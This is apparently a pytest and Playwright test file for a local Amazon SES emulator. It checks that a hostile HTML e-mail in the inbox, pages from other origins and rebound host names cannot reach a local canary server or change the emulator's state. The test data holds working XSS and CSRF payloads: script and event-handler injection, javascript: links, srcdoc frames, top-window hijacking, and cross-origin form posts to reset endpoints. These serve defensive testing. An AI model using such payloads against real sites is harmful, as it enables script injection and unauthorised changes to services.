"""Hostile e-mails and pages in a real browser: Debian's chromium, driven by Playwright."""

import http.server
import socket
import threading
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from local_ses.inbox.mails import Mails
from local_ses.sesv2.message import Mail
from local_ses.settings import Settings
from local_ses.store import Store
from local_ses.testing import LocalSes


class Canary:
    """A server of somebody else; `asked` are the paths that reached it."""

    def __init__(self) -> None:
        self.asked = asked = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *arguments: Any) -> None:
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def canary() -> Iterator[Canary]:
    canary = Canary()
    yield canary
    canary.server.shutdown()
    canary.server.server_close()


def hostile(canary: str, own: str) -> str:
    attack = (
        f"fetch('{canary}/fetch');fetch('{own}/_control/',{{method:'PATCH',headers:{{'Content-Type':'application/json'}},"
        "body:JSON.stringify({sandbox:true})});top.document.title='taken';top.location='" + canary + "/top';"
    )
    return f"""
    <html><head><meta http-equiv="refresh" content="0;url={canary}/refresh"><base href="{canary}/">
    <link rel="stylesheet" href="{canary}/style.css"><link rel="prefetch" href="{canary}/prefetch">
    <link rel="dns-prefetch" href="{canary}"><style>
    @import "{canary}/import.css"; body {{ background: url({canary}/back) }}
    @font-face {{ font-family: x; src: url({canary}/font) }} p {{ font-family: x }}</style></head>
    <body onload="{attack}"><script>{attack}</script><script src="{canary}/script.js"></script>
    <p id="seen">Seen</p><img src="{canary}/picture" onerror="{attack}"><img src=x onerror="{attack}">
    <svg onload="{attack}"><image href="{canary}/svg"/></svg><video src="{canary}/video" autoplay></video>
    <iframe src="{own}/_control/"></iframe><iframe srcdoc="<script>{attack}</script>"></iframe>
    <object data="{canary}/object"></object><embed src="{canary}/embed">
    <form id="f" action="{own}/_control/" method="post" enctype="text/plain">
    <input name="x" autofocus onfocus="{attack}">
    <button id="send">Send</button></form>
    <a id="out" href="{canary}/out" target="_top" ping="{canary}/ping">out</a>
    <a id="in" href="{canary}/in">in</a><a id="script" href="javascript:{attack}">script</a></body></html>"""


def hostile_mail(html: str) -> Mail:
    return Mail(
        id="hostile",
        at=0.0,
        account="123456789012",
        region="us-east-1",
        source="a@b",
        destination={"ToAddresses": ["<b>x</b>@y"]},
        subject="<script>alert(1)</script>",
        template="t",
        text="",
        html=html,
        message=b"",
        token="t",
        success_url="https://example.com/",
        failure_url="https://example.com/",
    )


@pytest.fixture
def infested(tmp_path: Path, canary: Canary) -> Iterator[LocalSes]:
    """The e-mail gets past the template's rules here, straight into the store; its attacks need the server's port."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    with closing(Store(tmp_path / "local-ses.sqlite")) as store:
        html = hostile(canary.url, f"http://127.0.0.1:{port}")
        Mails(store, Settings(store)).add(hostile_mail(html))
    with LocalSes(data=tmp_path, options=["--port", str(port)]) as ses:
        yield ses


def test_hostile_email(context: BrowserContext, infested: LocalSes, canary: Canary) -> None:
    """In the inbox it can do nothing."""
    page, ses = context.new_page(), infested
    before = ses.control()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.goto(f"{ses.url}/_inbox/")
    expect(page.get_by_text("<b>x</b>@y")).to_be_visible()
    page.get_by_role("link", name="alert(1)").click()
    frame = page.frame_locator("iframe")
    expect(frame.locator("#seen")).to_have_text("Seen")
    for inside in ("#out", "#script", "#send", "#in"):
        frame.locator(inside).click(no_wait_after=True)
    expect(page).to_have_title("<script>alert(1)</script> - local SES")
    page.wait_for_load_state("networkidle")
    assert page.url == f"{ses.url}/_inbox/mail/hostile"
    # Opened by itself, not in its frame.
    page.goto(f"{ses.url}/_inbox/mail/hostile/content")
    page.wait_for_load_state("networkidle")
    assert page.url.endswith("/content")
    assert canary.asked == []
    assert dialogs == []
    assert ses.control() == before


REACH = """async (paths) => {
  const asked = [];
  for (const path of paths) {
    for (const method of ["GET", "POST"]) for (const mode of ["cors", "no-cors"])
      asked.push(fetch(path, {method, mode}).then(() => path, () => ""));
    const picture = new Image();
    asked.push(new Promise((done) => { picture.onload = () => done(path); picture.onerror = () => done(""); }));
    picture.src = path;
  }
  return (await Promise.all(asked)).filter((path) => path);
}"""
FORM = """(to) => {
  const form = document.createElement("form");
  Object.assign(form, {action: to, method: "post"});
  document.body.append(form);
  form.submit();
}"""
ANYWHERE = ["/", "/moto-api/reset", "/moto-api/data.json", "/v2/email/account", "/_control/reset", "/_inbox/"]


def test_page_of_another_origin_reaches_nothing(context: BrowserContext, ses: LocalSes, canary: Canary) -> None:
    ses.client(service="s3").create_bucket(Bucket="kept")
    page = context.new_page()
    page.goto(canary.url)
    assert page.evaluate(REACH, [ses.url + path for path in ANYWHERE]) == []
    for path in ("/moto-api/reset", "/_control/reset"):
        page.goto(canary.url)
        with page.expect_navigation(url=ses.url + path) as answer:
            page.evaluate(FORM, ses.url + path)
        assert answer.value.status == 403
    assert [bucket["Name"] for bucket in ses.client(service="s3").list_buckets()["Buckets"]] == ["kept"]
    assert ses.control()["verifiedFrom"] == ["example.com"]


def test_rebound_name_reaches_nothing(context: BrowserContext, ses: LocalSes) -> None:
    page = context.new_page()
    rebound = ses.url.replace("127.0.0.1", "rebound.example")
    for path in ANYWHERE:
        answer = page.goto(rebound + path)
        assert answer is not None
        assert answer.status == 403


def test_link_inside_the_frame_verifies_nobody(page: Page, ses: LocalSes) -> None:
    page.locator(".rows").get_by_role("link", name="Please confirm").click()
    with page.expect_response("**/_verify/*") as answer:
        page.frame_locator("iframe").get_by_role("link").click(no_wait_after=True)
    assert answer.value.status == 403
    identity = ses.identity("someone@example.net")
    assert identity is not None
    assert identity["status"] == "PENDING"
